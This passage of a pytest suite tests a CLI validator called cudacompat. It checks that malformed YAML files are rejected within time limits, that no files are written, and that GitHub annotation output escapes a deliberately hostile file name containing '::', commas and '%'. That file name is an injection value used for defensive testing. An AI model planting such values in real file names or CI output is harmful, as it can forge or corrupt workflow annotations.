            and (expect.row is None or m["row"] == expect.row)]
    assert hits, (f"{where}: expected {expect} among:\n" + "\n".join(m.group(0)[:300] for m in found[:20]))
    return found


@pytest.mark.parametrize("c", CHECK_CASES, ids=lambda c: c.id)
def test_check_rejects(c: Case, workdir: Path, capsys):
    path, expect = materialise(c, workdir)
    before = snapshot(workdir, content=False)
    capsys.readouterr()
    t0, c0 = time.perf_counter(), time.process_time()
    rc = cli.main(["check", str(path)])
    elapsed, cpu = time.perf_counter() - t0, time.process_time() - c0
    out, err = capsys.readouterr()
    assert rc == 2, (rc, out, err[-2000:])
    assert cpu < 2.0, f"check used {cpu:.2f} s of CPU"
    # wall clock: 2 s on a machine that is not oversubscribed (the fixture checks in ~0.05 s);
    # when other processes queue for the cores, the same work takes proportionally longer
    load = os.getloadavg()[0] / (os.cpu_count() or 1)
    assert elapsed < 2.0 * max(1.0, load), f"check took {elapsed:.2f} s (load {load:.1f} per core)"
    assert "Traceback" not in err and "OK" not in out
    lines = err.splitlines()
    assert lines and SUMMARY.match(lines[-1]), lines[-1:]
    found = assert_reported(err, expect, "cudacompat check")
    # every line but the summary is one problem in the documented form, with a real position
    assert len(found) == len(lines) - 1, [x for x in lines[:-1] if not PROBLEM.match(x)][:5]
    assert all(m["file"] == str(path) and int(m["line"]) >= 1 and int(m["col"]) >= 1 for m in found)
    assert snapshot(workdir, content=False) == before  # check writes nothing
    assert not (ROOT / "pwned").exists()


def test_check_subprocess_reports_without_traceback(workdir: Path):
    """The real command, in its own process: the cases that used to crash it (SIGSEGV, TypeError)."""
    for c in [next(c for c in CASES if c.id == i) for i in
              ("deep-nesting-flow", "cuda-majors-not-a-list", "cuda-major-is-a-list", "explicit-tag-bad-int")]:
        path, expect = materialise(c, workdir)
        r = subprocess.run([sys.executable, "-m", "cudacompat", "check", str(path)], capture_output=True,
                           text=True, timeout=60, cwd=workdir)
        assert r.returncode == 2 and "Traceback" not in r.stderr, (c.id, r.returncode, r.stderr[-2000:])
        assert_reported(r.stderr, expect, f"cudacompat check ({c.id})")


def test_github_annotations_stay_one_line_per_problem(workdir: Path, capsys):
    path, _ = materialise(next(c for c in CASES if c.id == "nul-byte-in-a-value"), workdir)
    assert cli.main(["check", "--format", "github", str(path)]) == 2
    out = capsys.readouterr().out.splitlines()
    assert out and all(line.startswith("::error file=") for line in out)


def test_github_annotation_properties_escape_a_hostile_file_name(tmp_path: Path, capsys):
    d = tmp_path / "x::y" / "data"
    d.mkdir(parents=True)
    f = d / "a::b,c%.yaml"
    f.write_text("gpus: [\n", encoding="utf-8")
    assert cli.main(["check", "--format", "github", str(f)]) == 2
    line = capsys.readouterr().out.splitlines()[0]
    prop, _, msg = line.removeprefix("::error ").partition("::")
    assert "::" not in prop and ",line=" in prop and prop.count(",") == 2  # file, line, col only
    assert "%3A%3Ab%2Cc%25.yaml" in prop and msg.startswith("-: YAML syntax")
